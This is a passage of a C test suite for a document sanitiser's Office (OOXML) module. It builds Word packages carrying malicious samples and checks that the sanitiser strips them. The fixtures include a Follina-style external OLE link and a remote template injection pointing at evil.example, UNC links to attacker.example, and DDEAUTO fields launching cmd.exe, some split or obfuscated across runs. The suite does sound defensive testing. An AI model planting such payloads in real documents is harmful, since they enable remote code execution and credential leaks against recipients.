/* The OOXML module: packages built here with libzip (one per removal), the mat2 corpus,
 * and the detection of encrypted Office files. Every delivered output is checked with
 * libzip and libxml2: it opens, each XML part is well-formed, each part has a content
 * type, and no relationship points at a missing part. */
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <libxml/parser.h>
#include <libxml/tree.h>
#include <zip.h>

#include "sekisho/xml.h"
#include "testutil.h"

/* ---- building packages ------------------------------------------------------------- */

typedef struct ent {
	const char *name;
	const char *data; /* NUL-terminated unless len is given */
	size_t len;
	bool store; /* stored, not deflated */
	bool encrypt;
} ent;

static void mkzip(sk_buf *out, const ent *e, size_t n)
{
	zip_error_t ze;
	zip_error_init(&ze);
	zip_source_t *dst = zip_source_buffer_create(NULL, 0, 0, &ze);
	assert_non_null(dst);
	zip_source_keep(dst);
	zip_t *za = zip_open_from_source(dst, ZIP_TRUNCATE, &ze);
	assert_non_null(za);
	for (size_t i = 0; i < n; i++) {
		size_t len = e[i].len ? e[i].len : strlen(e[i].data);
		zip_source_t *s = zip_source_buffer(za, e[i].data, len, 0);
		assert_non_null(s);
		zip_int64_t idx = zip_file_add(za, e[i].name, s, ZIP_FL_ENC_UTF_8);
		assert_true(idx >= 0);
		zip_set_file_compression(za, (zip_uint64_t)idx,
					 e[i].store ? ZIP_CM_STORE : ZIP_CM_DEFLATE, 9);
		if (e[i].encrypt)
			assert_int_equal(zip_file_set_encryption(za, (zip_uint64_t)idx,
								 ZIP_EM_AES_256, "secret"), 0);
	}
	assert_int_equal(zip_close(za), 0);
	assert_int_equal(zip_source_open(dst), 0);
	sk_buf_init(out, 0);
	uint8_t buf[8192];
	zip_int64_t got;
	while ((got = zip_source_read(dst, buf, sizeof(buf))) > 0)
		assert_int_equal(sk_buf_add(out, buf, (size_t)got), 0);
	zip_source_close(dst);
	zip_source_free(dst);
	zip_error_fini(&ze);
}

#define XMLDECL "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
#define CT_HEAD                                                                            \
	XMLDECL "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">" \
		"<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>" \
		"<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
#define OVR(part, ct) "<Override PartName=\"" part "\" ContentType=\"" ct "\"/>"
#define CT_TAIL "</Types>"
#define OD "application/vnd.openxmlformats-officedocument."
#define CT_DOCX OD "wordprocessingml.document.main+xml"
#define CT_DOCM "application/vnd.ms-word.document.macroEnabled.main+xml"
#define RT "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
#define RELS_HEAD XMLDECL "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
#define REL(id, type, target) "<Relationship Id=\"" id "\" Type=\"" RT type "\" Target=\"" target "\"/>"
#define RELX(id, type, target) \
	"<Relationship Id=\"" id "\" Type=\"" RT type "\" Target=\"" target "\" TargetMode=\"External\"/>"
#define RELS_TAIL "</Relationships>"
#define ROOT_RELS(main) RELS_HEAD REL("rId1", "officeDocument", main) RELS_TAIL
#define W_NS                                                                                 \
	" xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\""          \
	" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\""   \
	" xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:v=\"urn:schemas-microsoft-com:vml\"" \
	" xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\""
#define W_DOC(body) XMLDECL "<w:document" W_NS "><w:body>" body "</w:body></w:document>"
#define P(text) "<w:p><w:r><w:t>" text "</w:t></w:r></w:p>"

/* A docx: [Content_Types].xml (main type + extra overrides), root rels, document.xml,
 * its rels (extra relationships) and extra entries. */
static void docx(sk_buf *out, const char *main_ct, const char *ct_extra, const char *body_xml,
		 const char *doc_rels, const ent *extra, size_t nextra)
{
	sk_buf ct;
	sk_buf_init(&ct, 0);
	sk_buf_printf(&ct, CT_HEAD "<Override PartName=\"/word/document.xml\" ContentType=\"%s\"/>%s" CT_TAIL,
		      main_ct, ct_extra ? ct_extra : "");
	sk_buf rels;
	sk_buf_init(&rels, 0);
	if (doc_rels)
		sk_buf_printf(&rels, RELS_HEAD "%s" RELS_TAIL, doc_rels);
	ent e[40];
	size_t n = 0;
	e[n++] = (ent){.name = "[Content_Types].xml", .data = sk_buf_str(&ct)};
	e[n++] = (ent){.name = "_rels/.rels", .data = ROOT_RELS("word/document.xml")};
	e[n++] = (ent){.name = "word/document.xml", .data = body_xml};
	if (doc_rels)
		e[n++] = (ent){.name = "word/_rels/document.xml.rels", .data = sk_buf_str(&rels)};
	for (size_t i = 0; i < nextra && n < 40; i++)
		e[n++] = extra[i];
	mkzip(out, e, n);
	sk_buf_free(&ct);
	sk_buf_free(&rels);
}

/* ---- reading the output -------------------------------------------------------------- */

static zip_t *zopen(const sk_buf *b)
{
	zip_error_t ze;
	zip_error_init(&ze);
	zip_source_t *s = zip_source_buffer_create(b->data, b->len, 0, &ze);
	assert_non_null(s);
	zip_t *za = zip_open_from_source(s, ZIP_RDONLY | ZIP_CHECKCONS, &ze);
	if (!za)
		fail_msg("output is not a valid zip: %s", zip_error_strerror(&ze));
	zip_error_fini(&ze);
	return za;
}

/* The content of an entry (malloc'd, NUL-terminated) or NULL when absent. */
static char *zget(const sk_buf *b, const char *name)
{
	zip_t *za = zopen(b);
	zip_stat_t st;
	char *r = NULL;
	if (zip_stat(za, name, 0, &st) == 0) {
		r = malloc(st.size + 1);
		assert_non_null(r);
		zip_file_t *f = zip_fopen(za, name, 0);
		assert_non_null(f);
		assert_int_equal(zip_fread(f, r, st.size), (zip_int64_t)st.size);
		zip_fclose(f);
		r[st.size] = 0;
	}
	zip_discard(za);
	return r;
}

static bool zhas(const sk_buf *b, const char *name)
{
	char *s = zget(b, name);
	free(s);
	return s != NULL;
}

/* true when any entry's content or name contains needle */
static bool zgrep(const sk_buf *b, const char *needle)
{
	zip_t *za = zopen(b);
	bool found = false;
	zip_int64_t n = zip_get_num_entries(za, 0);
	for (zip_int64_t i = 0; i < n && !found; i++) {
		const char *name = zip_get_name(za, (zip_uint64_t)i, 0);
		if (strstr(name, needle)) {
			found = true;
			break;
		}
		char *s = zget(b, name);
		found = s && strstr(s, needle);
		free(s);
	}
	zip_discard(za);
	return found;
}

static bool has_str(const char *hay, const char *needle)
{
	return hay && strstr(hay, needle);
}

static size_t count_str(const char *hay, const char *needle)
{
	size_t c = 0;
	for (const char *p = hay; p && (p = strstr(p, needle)); p += strlen(needle))
		c++;
	return c;
}

static xmlDoc *xparse(const char *s)
{
	return xmlReadMemory(s, (int)strlen(s), NULL, NULL, XML_PARSE_NONET | XML_PARSE_NOERROR | XML_PARSE_NOWARNING);
}

/* Resolve a relationship target against its source's folder (test-side, simple). */
static void resolve(const char *relsname, const char *target, char *out, size_t outsz)
{
	char base[512] = "";
	if (target[0] != '/') {
		/* "dir/_rels/x.rels" → "dir/" */
		const char *r = strstr(relsname, "_rels/");
		snprintf(base, sizeof(base), "%.*s", r ? (int)(r - relsname) : 0, relsname);
	}
	char tmp[1024];
	snprintf(tmp, sizeof(tmp), "%s%s", base, target[0] == '/' ? target + 1 : target);
	/* collapse "x/../" */
	char *segs[64];
	int ns = 0;
	for (char *tok = strtok(tmp, "/"); tok && ns < 64; tok = strtok(NULL, "/")) {
		if (!strcmp(tok, ".."))
			ns = ns > 0 ? ns - 1 : 0;
		else if (strcmp(tok, "."))
			segs[ns++] = tok;
	}
	out[0] = 0;
	for (int i = 0; i < ns; i++) {
		strncat(out, segs[i], outsz - strlen(out) - 1);
		if (i + 1 < ns)
			strncat(out, "/", outsz - strlen(out) - 1);
	}
}

/* The output is a consistent package: [Content_Types].xml first, every XML part
 * well-formed, every part typed, every internal relationship resolved. */
static void check_package(const sk_buf *b)
{
	zip_t *za = zopen(b);
	zip_int64_t n = zip_get_num_entries(za, 0);
	assert_true(n >= 3);
	assert_string_equal(zip_get_name(za, 0, 0), "[Content_Types].xml");
	char *ct = zget(b, "[Content_Types].xml");
	xmlDoc *ctd = xparse(ct);
	assert_non_null(ctd);
	for (zip_int64_t i = 0; i < n; i++) {
		const char *name = zip_get_name(za, (zip_uint64_t)i, 0);
		size_t l = strlen(name);
		char *s = zget(b, name);
		assert_non_null(s);
		if ((l > 4 && !strcmp(name + l - 4, ".xml")) || (l > 5 && !strcmp(name + l - 5, ".rels"))) {
			xmlDoc *d = xparse(s);
			if (!d)
				fail_msg("%s is not well-formed", name);
			xmlFreeDoc(d);
		}
		if (strcmp(name, "[Content_Types].xml") && !(l > 5 && !strcmp(name + l - 5, ".rels")) &&
		    !(l > 4 && !strcmp(name + l - 4, ".xml"))) {
			char pn[600];
			snprintf(pn, sizeof(pn), "PartName=\"/%s\"", name);
			if (!strstr(ct, pn))
				fail_msg("%s has no content type", name);
		}
		if (l > 5 && !strcmp(name + l - 5, ".rels")) {
			xmlDoc *d = xparse(s);
			for (xmlNode *c = xmlDocGetRootElement(d)->children; c; c = c->next) {
				if (c->type != XML_ELEMENT_NODE)
					continue;
				xmlChar *mode = xmlGetProp(c, BAD_CAST "TargetMode");
				xmlChar *tg = xmlGetProp(c, BAD_CAST "Target");
				if (!mode || strcmp((char *)mode, "External")) {
					char full[1024];
					resolve(name, (char *)tg, full, sizeof(full));
					zip_stat_t st;
					if (zip_stat(za, full, ZIP_FL_NOCASE, &st) != 0)
						fail_msg("%s: relationship to missing %s", name, full);
				}
				xmlFree(mode);
				xmlFree(tg);
			}
			xmlFreeDoc(d);
		}
		free(s);
	}
	xmlFreeDoc(ctd);
	free(ct);
	zip_discard(za);
}

static void run_buf(const sk_buf *in, const char *name, const sk_options *opt, tu_run *r)
{
	tu_process(in->data, in->len, name, opt, r);
	if (r->res.report.verdict != SK_VERDICT_BLOCKED)
		check_package(&r->out);
}

static bool reported(const tu_run *r, sk_action a, const char *what, const char *where_suffix)
{
	for (size_t i = 0; i < r->res.report.n; i++) {
		const sk_report_entry *e = &r->res.report.v[i];
		if (e->action != a || strcmp(e->what, what))
			continue;
		size_t wl = strlen(e->where), sl = where_suffix ? strlen(where_suffix) : 0;
		if (!where_suffix || (wl >= sl && !strcmp(e->where + wl - sl, where_suffix)))
			return true;
	}
	return false;
}

static void dump_report(const tu_run *r)
{
	for (size_t i = 0; i < r->res.report.n; i++) {
		const sk_report_entry *e = &r->res.report.v[i];
		print_message("#   %s %s @%s [%s] x%llu\n", sk_action_code(e->action), e->what, e->where,
			      e->detail ? e->detail : "", (unsigned long long)e->count);
	}
}

/* a 1x1 red PNG */
static const uint8_t png1[] = {
	0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x48,
	0x44, 0x52, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x02, 0x00, 0x00,
	0x00, 0x90, 0x77, 0x53, 0xDE, 0x00, 0x00, 0x00, 0x0C, 0x49, 0x44, 0x41, 0x54, 0x08,
	0xD7, 0x63, 0xF8, 0xCF, 0xC0, 0x00, 0x00, 0x03, 0x01, 0x01, 0x00, 0x18, 0xDD, 0x8D,
	0xB0, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4E, 0x44, 0xAE, 0x42, 0x60, 0x82,
};

/* ---- a clean package ------------------------------------------------------------------- */

static void clean_docx(void **state)
{
	(void)state;
	sk_buf in;
	const char *doc = W_DOC(P("Hello") P("World"));
	char styles[4096];
	snprintf(styles, sizeof(styles), XMLDECL "<w:styles" W_NS ">%s</w:styles>",
		 "<w:style w:type=\"paragraph\" w:styleId=\"Normal\"><w:name w:val=\"Normal\"/></w:style>");
	ent extra[] = {{.name = "word/styles.xml", .data = styles, .store = true}};
	docx(&in, CT_DOCX, OVR("/word/styles.xml", OD "wordprocessingml.styles+xml"), doc,
	     REL("rId1", "styles", "styles.xml"), extra, 1);
	tu_run r;
	run_buf(&in, "a.docx", NULL, &r);
	dump_report(&r);
	assert_verdict(&r, SK_VERDICT_CLEAN);
	assert_int_equal(r.res.report.n, 0);
	assert_string_equal(r.res.type.code, "docx");
	assert_string_equal(r.res.report.out_ext, "");
	char *d = zget(&r.out, "word/document.xml");
	assert_string_equal(d, doc);
	free(d);
	/* unchanged parts keep their compressed bytes and method */
	zip_t *zi = zopen(&in), *zo = zopen(&r.out);
	const char *names[] = {"word/document.xml", "word/styles.xml", "_rels/.rels"};
	for (size_t i = 0; i < 3; i++) {
		zip_stat_t si, so;
		assert_int_equal(zip_stat(zi, names[i], 0, &si), 0);
		assert_int_equal(zip_stat(zo, names[i], 0, &so), 0);
		assert_int_equal(si.comp_method, so.comp_method);
		assert_int_equal(si.comp_size, so.comp_size);
		assert_int_equal(si.crc, so.crc);
		uint8_t *a = malloc(si.comp_size + 1), *b = malloc(so.comp_size + 1);
		zip_file_t *fa = zip_fopen(zi, names[i], ZIP_FL_COMPRESSED);
		zip_file_t *fb = zip_fopen(zo, names[i], ZIP_FL_COMPRESSED);
		assert_int_equal(zip_fread(fa, a, si.comp_size), (zip_int64_t)si.comp_size);
		assert_int_equal(zip_fread(fb, b, so.comp_size), (zip_int64_t)so.comp_size);
		assert_memory_equal(a, b, si.comp_size);
		zip_fclose(fa);
		zip_fclose(fb);
		free(a);
		free(b);
	}
	zip_stat_t ss;
	assert_int_equal(zip_stat(zo, "word/styles.xml", 0, &ss), 0);
	assert_int_equal(ss.comp_method, ZIP_CM_STORE);
	zip_discard(zi);
	zip_discard(zo);
	tu_free(&r);
	sk_buf_free(&in);
}

/* ---- macros ------------------------------------------------------------------------------ */

static void macro_docm(void **state)
{
	(void)state;
	sk_buf in;
	static const char ole[] = "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 fake VBA project: Sub AutoOpen()";
	ent extra[] = {
		{.name = "word/vbaProject.bin", .data = ole, .len = sizeof(ole) - 1},
		{.name = "word/_rels/vbaProject.bin.rels",
		 .data = RELS_HEAD "<Relationship Id=\"rId1\" Type=\"http://schemas.microsoft.com/office/2006/relationships/wordVbaData\" Target=\"vbaData.xml\"/>" RELS_TAIL},
		{.name = "word/vbaData.xml",
		 .data = XMLDECL "<wne:vbaSuppData xmlns:wne=\"http://schemas.microsoft.com/office/word/2006/wordml\"/>"},
	};
	docx(&in, CT_DOCM,
	     "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
	     OVR("/word/vbaData.xml", "application/vnd.ms-word.vbaData+xml"),
	     W_DOC(P("macro document")),
	     "<Relationship Id=\"rId9\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/>",
	     extra, 3);
	tu_run r;
	run_buf(&in, "report.docm", NULL, &r);
	dump_report(&r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_false(zhas(&r.out, "word/vbaProject.bin"));
	assert_false(zhas(&r.out, "word/vbaData.xml"));
	assert_false(zgrep(&r.out, "vbaProject"));
	assert_false(zgrep(&r.out, "macroEnabled"));
	char *ct = zget(&r.out, "[Content_Types].xml");
	assert_true(has_str(ct, "PartName=\"/word/document.xml\" ContentType=\"" CT_DOCX "\""));
	free(ct);
	assert_true(reported(&r, SK_ACTION_REMOVED, "macro", "word/vbaProject.bin"));
	assert_true(reported(&r, SK_ACTION_REMOVED, "macro", "word/vbaData.xml"));
	assert_true(reported(&r, SK_ACTION_CONVERTED, "file-type", NULL));
	assert_string_equal(r.res.report.out_ext, "docx");
	char *d = zget(&r.out, "word/document.xml");
	assert_true(has_str(d, "macro document"));
	free(d);
	tu_free(&r);

	/* inside a ZIP, the rebuilt docm is stored under a .docx name and the ZIP keeps its own */
	{
		ent outer[] = {{.name = "dir/report.docm", .data = (const char *)in.data, .len = in.len}};
		sk_buf zin;
		mkzip(&zin, outer, 1);
		tu_process(zin.data, zin.len, "mail.zip", NULL, &r);
		assert_verdict(&r, SK_VERDICT_SANITIZED);
		assert_string_equal(r.res.report.out_ext, "");
		assert_true(zhas(&r.out, "dir/report.docx"));
		assert_false(zhas(&r.out, "dir/report.docm"));
		assert_true(reported(&r, SK_ACTION_RENAMED, "entry-name", NULL));
		tu_free(&r);
		sk_buf_free(&zin);
	}
	sk_buf_free(&in);

	/* a macro-enabled template becomes a plain template */
	docx(&in, "application/vnd.ms-word.template.macroEnabledTemplate.main+xml", NULL,
	     W_DOC(P("template")), NULL, NULL, 0);
	run_buf(&in, "t.dotm", NULL, &r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_string_equal(r.res.report.out_ext, "dotx");
	ct = zget(&r.out, "[Content_Types].xml");
	assert_true(has_str(ct, OD "wordprocessingml.template.main+xml"));
	free(ct);
	tu_free(&r);
	sk_buf_free(&in);

	/* a docx named .docm (no macros) is delivered as .docx */
	docx(&in, CT_DOCX, NULL, W_DOC(P("plain")), NULL, NULL, 0);
	run_buf(&in, "x.docm", NULL, &r);
	assert_verdict(&r, SK_VERDICT_CLEAN);
	assert_string_equal(r.res.report.out_ext, "docx");
	tu_free(&r);
	sk_buf_free(&in);
}

/* ---- ActiveX, OLE, custom UI, attached template ----------------------------------------- */

static void activex(void **state)
{
	(void)state;
	sk_buf in;
	ent extra[] = {
		{.name = "word/activeX/activeX1.xml",
		 .data = XMLDECL "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" ax:classid=\"{8BD21D40-EC42-11CE-9E0D-00AA006002F3}\" ax:persistence=\"persistStorage\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" r:id=\"rId1\"/>"},
		{.name = "word/activeX/_rels/activeX1.xml.rels",
		 .data = RELS_HEAD "<Relationship Id=\"rId1\" Type=\"http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary\" Target=\"activeX1.bin\"/>" RELS_TAIL},
		{.name = "word/activeX/activeX1.bin", .data = "\xD0\xCF\x11\xE0 control", .len = 12},
	};
	docx(&in, CT_DOCX,
	     OVR("/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
	     "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.activeX\"/>",
	     W_DOC("<w:p><w:r><w:t>before</w:t></w:r><w:r><w:object><w:control r:id=\"rId5\" w:name=\"CommandButton1\"/></w:object></w:r><w:r><w:t>after</w:t></w:r></w:p>"),
	     "<Relationship Id=\"rId5\" Type=\"" RT "control\" Target=\"activeX/activeX1.xml\"/>",
	     extra, 3);
	tu_run r;
	run_buf(&in, "ax.docx", NULL, &r);
	dump_report(&r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_false(zgrep(&r.out, "activeX"));
	char *d = zget(&r.out, "word/document.xml");
	assert_false(has_str(d, "w:control"));
	assert_true(has_str(d, "before") && has_str(d, "after"));
	free(d);
	assert_true(reported(&r, SK_ACTION_REMOVED, "activex", "word/activeX/activeX1.xml"));
	assert_true(reported(&r, SK_ACTION_REMOVED, "activex", "word/document.xml"));
	tu_free(&r);
	sk_buf_free(&in);
}

static void ole_object(void **state)
{
	(void)state;
	sk_buf in;
	ent extra[] = {
		{.name = "word/embeddings/oleObject1.bin", .data = "\xD0\xCF\x11\xE0 package", .len = 12},
	};
	docx(&in, CT_DOCX, "<Default Extension=\"bin\" ContentType=\"" OD "oleObject\"/>",
	     W_DOC("<w:p><w:r><w:object><v:shape id=\"_x0000_i1025\" style=\"width:75pt\"><v:imagedata o:title=\"\"/></v:shape>"
		   "<o:OLEObject Type=\"Embed\" ProgID=\"Package\" ShapeID=\"_x0000_i1025\" DrawAspect=\"Icon\" ObjectID=\"_1\" r:id=\"rId7\"/></w:object></w:r></w:p>" P("text")),
	     REL("rId7", "oleObject", "embeddings/oleObject1.bin")
	     /* Follina-style: an external OLE link */
	     "<Relationship Id=\"rId8\" Type=\"" RT "oleObject\" Target=\"mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html\" TargetMode=\"External\"/>",
	     extra, 1);
	tu_run r;
	run_buf(&in, "ole.docx", NULL, &r);
	dump_report(&r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_false(zgrep(&r.out, "oleObject"));
	assert_false(zgrep(&r.out, "OLEObject"));
	assert_false(zgrep(&r.out, "mhtml:"));
	assert_false(zgrep(&r.out, "embeddings/"));
	char *d = zget(&r.out, "word/document.xml");
	assert_true(has_str(d, "<v:shape")); /* the preview picture stays */
	assert_true(has_str(d, "text"));
	free(d);
	assert_true(reported(&r, SK_ACTION_REMOVED, "ole-object", "word/embeddings/oleObject1.bin"));
	assert_true(reported(&r, SK_ACTION_REMOVED, "ole-object", "word/_rels/document.xml.rels"));
	tu_free(&r);
	sk_buf_free(&in);
}

static void custom_ui(void **state)
{
	(void)state;
	ent e[] = {
		{.name = "[Content_Types].xml", .data = CT_HEAD OVR("/word/document.xml", CT_DOCX) CT_TAIL},
		{.name = "_rels/.rels",
		 .data = RELS_HEAD REL("rId1", "officeDocument", "word/document.xml")
		 "<Relationship Id=\"rId2\" Type=\"http://schemas.microsoft.com/office/2007/relationships/ui/extensibility\" Target=\"customUI/customUI14.xml\"/>"
		 "<Relationship Id=\"rId3\" Type=\"http://schemas.microsoft.com/office/2006/relationships/ui/extensibility\" Target=\"custom/ui.xml\"/>" RELS_TAIL},
		{.name = "word/document.xml", .data = W_DOC(P("ui"))},
		{.name = "customUI/customUI14.xml",
		 .data = XMLDECL "<customUI xmlns=\"http://schemas.microsoft.com/office/2009/07/customui\" onLoad=\"Evil\"/>"},
		{.name = "custom/ui.xml",
		 .data = XMLDECL "<customUI xmlns=\"http://schemas.microsoft.com/office/2006/01/customui\" onLoad=\"Evil2\"/>"},
	};
	sk_buf in;
	mkzip(&in, e, 5);
	tu_run r;
	run_buf(&in, "ui.docx", NULL, &r);
	dump_report(&r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_false(zgrep(&r.out, "customUI"));
	assert_false(zgrep(&r.out, "onLoad"));
	assert_false(zhas(&r.out, "custom/ui.xml"));
	assert_true(reported(&r, SK_ACTION_REMOVED, "custom-ui", "customUI/customUI14.xml"));
	assert_true(reported(&r, SK_ACTION_REMOVED, "custom-ui", "custom/ui.xml"));
	tu_free(&r);
	sk_buf_free(&in);
}

static void attached_template(void **state)
{
	(void)state;
	sk_buf in;
	ent extra[] = {
		{.name = "word/settings.xml",
		 .data = XMLDECL "<w:settings" W_NS "><w:zoom w:percent=\"100\"/><w:attachedTemplate r:id=\"rId1\"/><w:defaultTabStop w:val=\"720\"/></w:settings>"},
		{.name = "word/_rels/settings.xml.rels",
		 .data = RELS_HEAD RELX("rId1", "attachedTemplate", "http://evil.example/template.dotm") RELS_TAIL},
	};
	docx(&in, CT_DOCX, OVR("/word/settings.xml", OD "wordprocessingml.settings+xml"),
	     W_DOC(P("template injection")), REL("rId3", "settings", "settings.xml"), extra, 2);
	tu_run r;
	run_buf(&in, "tpl.docx", NULL, &r);
	dump_report(&r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_false(zgrep(&r.out, "attachedTemplate"));
	assert_false(zgrep(&r.out, "evil.example"));
	assert_false(zhas(&r.out, "word/_rels/settings.xml.rels")); /* nothing left in it */
	char *s = zget(&r.out, "word/settings.xml");
	assert_true(has_str(s, "w:defaultTabStop"));
	free(s);
	assert_true(reported(&r, SK_ACTION_REMOVED, "attached-template", "word/_rels/settings.xml.rels"));
	assert_true(reported(&r, SK_ACTION_REMOVED, "attached-template", "word/settings.xml"));
	tu_free(&r);
	sk_buf_free(&in);
}

/* ---- external relationships -------------------------------------------------------------- */

static void external_rels(void **state)
{
	(void)state;
	sk_buf in;
	docx(&in, CT_DOCX, NULL,
	     W_DOC("<w:p><w:hyperlink r:id=\"rId1\"><w:r><w:t>good link</w:t></w:r></w:hyperlink></w:p>"
		   "<w:p><w:hyperlink r:id=\"rId2\"><w:r><w:t>unc link</w:t></w:r></w:hyperlink></w:p>"
		   "<w:p><w:r><w:drawing><a:blip r:link=\"rId3\"/></w:drawing></w:r></w:p>"
		   "<w:p><w:hyperlink r:id=\"rId4\"><w:r><w:t>mail</w:t></w:r></w:hyperlink></w:p>"),
	     RELX("rId1", "hyperlink", "https://www.example.jp/")
	     RELX("rId2", "hyperlink", "file://///attacker.example/share/x.docx")
	     RELX("rId3", "image", "http://tracker.example/pixel.png")
	     RELX("rId4", "hyperlink", "mailto:info@example.jp")
	     RELX("rId5", "frame", "\\\\attacker\\share"),
	     NULL, 0);
	tu_run r;
	run_buf(&in, "links.docx", NULL, &r);
	dump_report(&r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	char *rels = zget(&r.out, "word/_rels/document.xml.rels");
	assert_true(has_str(rels, "https://www.example.jp/"));
	assert_true(has_str(rels, "mailto:info@example.jp"));
	assert_false(has_str(rels, "attacker"));
	assert_false(has_str(rels, "tracker"));
	assert_int_equal(count_str(rels, "TargetMode=\"External\""), 2);
	free(rels);
	char *d = zget(&r.out, "word/document.xml");
	assert_true(has_str(d, "unc link")); /* the text stays, the link goes */
	assert_true(has_str(d, "r:id=\"rId1\""));
	assert_false(has_str(d, "r:id=\"rId2\""));
	assert_false(has_str(d, "r:link"));
	free(d);
	const sk_report_entry *e = tu_find_where(&r.res.report, "word/_rels/document.xml.rels");
	assert_non_null(e);
	assert_string_equal(e->what, "external-relationship");
	assert_int_equal(e->count, 3);
	tu_free(&r);
	sk_buf_free(&in);
}

/* ---- DDE and other fields ------------------------------------------------------------------ */

#define FLD(type) "<w:r><w:fldChar w:fldCharType=\"" type "\"/></w:r>"
#define INSTR(t) "<w:r><w:instrText xml:space=\"preserve\">" t "</w:instrText></w:r>"
#define RUN(t) "<w:r><w:t>" t "</w:t></w:r>"

static void dde_fields(void **state)
{
	(void)state;
	sk_buf in;
	docx(&in, CT_DOCX, NULL,
	     W_DOC(
		     /* simple field */
		     "<w:p><w:fldSimple w:instr=\" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;\">" RUN("RESULT1") "</w:fldSimple></w:p>"
		     /* complex field, the name split over two runs */
		     "<w:p>" FLD("begin") INSTR(" DD") INSTR("EAUTO c:\\\\a.exe x ") FLD("separate") RUN("RESULT2") FLD("end") "</w:p>"
		     /* the name computed by a nested QUOTE field */
		     "<w:p>" FLD("begin") FLD("begin") INSTR(" QUOTE 68 68 69 ") FLD("separate") RUN("DDE") FLD("end")
		     INSTR(" c:\\\\b.exe ") FLD("separate") RUN("RESULT3") FLD("end") "</w:p>"
		     /* a picture fetched from the network */
		     "<w:p>" FLD("begin") INSTR(" INCLUDEPICTURE \"http://tracker.example/p.png\" \\\\d ") FLD("separate") RUN("RESULT4") FLD("end") "</w:p>"
		     /* harmless: PAGE, and a formula with a nested field */
		     "<w:p>" FLD("begin") INSTR(" PAGE ") FLD("separate") RUN("7") FLD("end") "</w:p>"
		     "<w:p>" FLD("begin") INSTR(" = ") FLD("begin") INSTR(" NUMPAGES ") FLD("separate") RUN("9") FLD("end")
		     INSTR(" - 1 ") FLD("separate") RUN("8") FLD("end") "</w:p>"
		     /* a deleted DDE field in a tracked change still counts */
		     "<w:p><w:del w:id=\"1\" w:author=\"x\">" "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
		     "<w:r><w:delInstrText> DDE cmd </w:delInstrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:del></w:p>"),
	     NULL, NULL, 0);
	tu_run r;
	run_buf(&in, "dde.docx", NULL, &r);
	dump_report(&r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	char *d = zget(&r.out, "word/document.xml");
	assert_false(has_str(d, "DDEAUTO"));
	assert_false(has_str(d, "EAUTO"));
	assert_false(has_str(d, "cmd.exe"));
	assert_false(has_str(d, "a.exe"));
	assert_false(has_str(d, "b.exe"));
	assert_false(has_str(d, "QUOTE"));
	assert_false(has_str(d, "INCLUDEPICTURE"));
	assert_false(has_str(d, "delInstrText"));
	assert_false(has_str(d, "fldSimple"));
	for (int i = 1; i <= 4; i++) {
		char t[16];
		snprintf(t, sizeof(t), "RESULT%d", i);
		assert_true(has_str(d, t)); /* the last result stays as text */
	}
	assert_true(has_str(d, " PAGE "));
	assert_true(has_str(d, " NUMPAGES "));
	assert_true(has_str(d, " = "));
	/* the two harmless fields keep their 2 + 2 field characters of each kind */
	assert_int_equal(count_str(d, "w:fldCharType=\"begin\""), 3);
	assert_int_equal(count_str(d, "w:fldCharType=\"end\""), 3);
	free(d);
	const sk_report_entry *e = NULL;
	for (size_t i = 0; i < r.res.report.n; i++)
		if (!strcmp(r.res.report.v[i].what, "dde"))
			e = &r.res.report.v[i];
	assert_non_null(e);
	assert_int_equal(e->count, 4);
	assert_true(reported(&r, SK_ACTION_REMOVED, "external-link", "word/document.xml"));
	tu_free(&r);
	sk_buf_free(&in);
}

/* ---- Excel: external links, connections, macro sheets, DDE formulas ------------------ */

#define RNS "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
#define X_NS " xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"" RNS "\""
#define SML OD "spreadsheetml."

static void xlsx_parts(void **state)
{
	(void)state;
	ent e[] = {
		{.name = "[Content_Types].xml",
		 .data = CT_HEAD OVR("/xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
		 OVR("/xl/worksheets/sheet1.xml", SML "worksheet+xml")
		 OVR("/xl/macrosheets/sheet2.xml", "application/vnd.ms-excel.macrosheet+xml")
		 OVR("/xl/externalLinks/externalLink1.xml", SML "externalLink+xml")
		 OVR("/xl/connections.xml", SML "connections+xml")
